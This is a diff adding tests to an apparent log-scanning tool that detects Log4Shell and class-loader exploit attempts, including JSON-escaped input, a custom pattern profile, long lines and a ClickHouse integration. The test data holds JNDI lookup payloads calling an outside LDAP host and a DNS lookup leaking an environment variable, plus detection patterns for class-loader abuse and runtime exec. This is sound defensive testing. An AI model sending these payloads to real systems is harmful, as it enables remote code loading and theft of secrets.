@@ -77,6 +77,10 @@ class Verdicts(Case):
         self.one(access(ref="https://h/?t=" + b), decoded=["base64"], field="Referer")
         self.one(access(path="/" + PAYLOAD), field="path")
 
+    def test_slashes_that_json_escapes(self):
+        row = self.one('{"q": "${jndi:ldap:\\/\\/203.0.113.9:1389\\/a}"}', resolves_to="ldap://203.0.113.9:1389/a")
+        self.assertEqual(row["callback"]["host"], "203.0.113.9")
+
     def test_field_of_the_worse_of_two(self):
         self.one(access(PAYLOAD, path="/?tpl=${name}"), field="User-Agent", verdict="reaches")
 
@@ -456,6 +460,47 @@ class Outbound(Case):
         self.assertIn("[ipv4-addr:value = '203.0.113.9']", [o["pattern"] for o in bundle["objects"]])
 
 
+class Patterns(Case):
+    """What a profile states, in the same pass."""
+
+    def setUp(self):
+        super().setUp()
+        self.profile = os.path.join(self.dir, "p/")
+        self.put("p/patterns.tsv", "# id, expression, titles\nloader\tclass\\.module\\.classLoader\tclass loader\tクラスローダー\n"
+                 "exec\t(?i)runtime\\W{1,4}exec\texecution\t実行\n")
+
+    def test_in_order_and_once(self):
+        text = ("a\nclass.module.classLoader.x=1 and class.module.classLoader\n" + PAYLOAD + "\nb\n" + PAYLOAD +
+                " class.module.classLoader\nRUNTIME).exec\n\nend class.module.classLoader")
+        path = self.put("x.log", text)
+        _, rows, s = hunt("--profile", self.profile, path)
+        self.assertEqual([(r["line"], r["verdict"], r.get("pattern")) for r in rows],
+                         [(2, "attempt", "loader"), (3, "reaches", None), (5, "reaches", None), (6, "attempt", "exec"),
+                          (8, "attempt", "loader")])
+        self.assertEqual(run("-c", path).stdout, b"2\n")  # the built-in profile has none of them
+
+    def test_every_line(self):
+        path = self.put("x.log", "GET class.module.classLoader\n" * 20000)
+        _, rows, s = hunt("--profile", self.profile, path)
+        self.assertEqual([r["line"] for r in rows], list(range(1, 20001)))
+
+    def test_long_line(self):
+        path = self.put("x.log", "z" * 9000000 + "class.module.classLoader" + "z" * 9000000 + "\nclass.module.classLoader\n")
+        for jobs in ("1", "2"):
+            _, rows, s = hunt("--jobs", jobs, "--profile", self.profile, path)
+            self.assertEqual([(r["line"], r["pattern"]) for r in rows], [(1, "loader"), (2, "loader")])
+
+    def test_wrong_patterns(self):
+        for text, word in (("a\t(b\tc\td\n", "a"), ("a\t(b)\\1\tc\td\n", "a"), ("only\ttwo\n", "line 1"),
+                           ("".join("p%d\tx%d\ta\tb\n" % (i, i) for i in range(65)), "64")):
+            self.put("p/patterns.tsv", text)
+            r = run("--profile", self.profile, self.put("x.log", "x"))
+            self.assertEqual(r.returncode, 2)
+            self.assertIn(word, r.stderr.decode())
+        self.put("p/patterns.tsv", "".join("p%d\txq%dq\ta\tb\n" % (i, i) for i in range(64)))
+        self.assertEqual(run("-c", "--profile", self.profile, self.put("x.log", "xq63q\n")).stdout, b"1\n")
+
+
 class Table(Case):
     def test_widths(self):
         path = self.put("a.log", access(PAYLOAD) + "x ${jndi:dns://${env:A}.h.example\n")
@@ -508,6 +553,25 @@ class Elsewhere(Case):
         r = subprocess.run(["xargs", "-0", "-n5", "-P2", TOOL, "hunt", "-c"], input=names.encode(), capture_output=True,
                            env=env_of())
         self.assertEqual(len(r.stdout.splitlines()), 20)
+
+
+@unittest.skipUnless(os.path.isdir(os.path.join(HERE, "chdb/node_modules/chdb")) and not SANITIZED,
+                     "npm install --prefix tests/e2e/chdb, and a build without sanitizers")
+class ClickHouse(Case):
+    def test_executable(self):
+        os.makedirs(os.path.join(self.dir, "s/user_scripts"))
+        shutil.copy(TOOL, os.path.join(self.dir, "s/user_scripts/hikeshi"))
+        sql = """SELECT line, verdict, resolves_to, client FROM executable('hikeshi hunt --format jsonl --no-summary -', JSONEachRow,
+                 'line UInt64, verdict String, resolves_to Nullable(String), client Nullable(String)',
+                 (SELECT '192.0.2.8' AS remote_addr, concat('GET /', if(number %% 100 = 7, '%s', toString(number))) AS request
+                  FROM numbers(1000) ORDER BY number))
+                 SETTINGS input_format_skip_unknown_fields = 1 FORMAT JSONEachRow""" % PAYLOAD
+        r = subprocess.run(["node", os.path.join(HERE, "chdb/query.mjs"), os.path.join(self.dir, "s")], input=sql.encode(),
+                           capture_output=True, timeout=120, env=env_of())
+        rows = [json.loads(x) for x in r.stdout.splitlines()]
+        self.assertEqual([x["line"] for x in rows], list(range(8, 1000, 100)), r.stderr[-2000:])
+        self.assertEqual({(x["verdict"], x["resolves_to"], x["client"]) for x in rows},
+                         {("reaches", "ldap://203.0.113.9:1389/a", "192.0.2.8")})
 
 
 @unittest.skipUnless(os.path.isdir(SAMPLES), "no labelled texts on this machine")
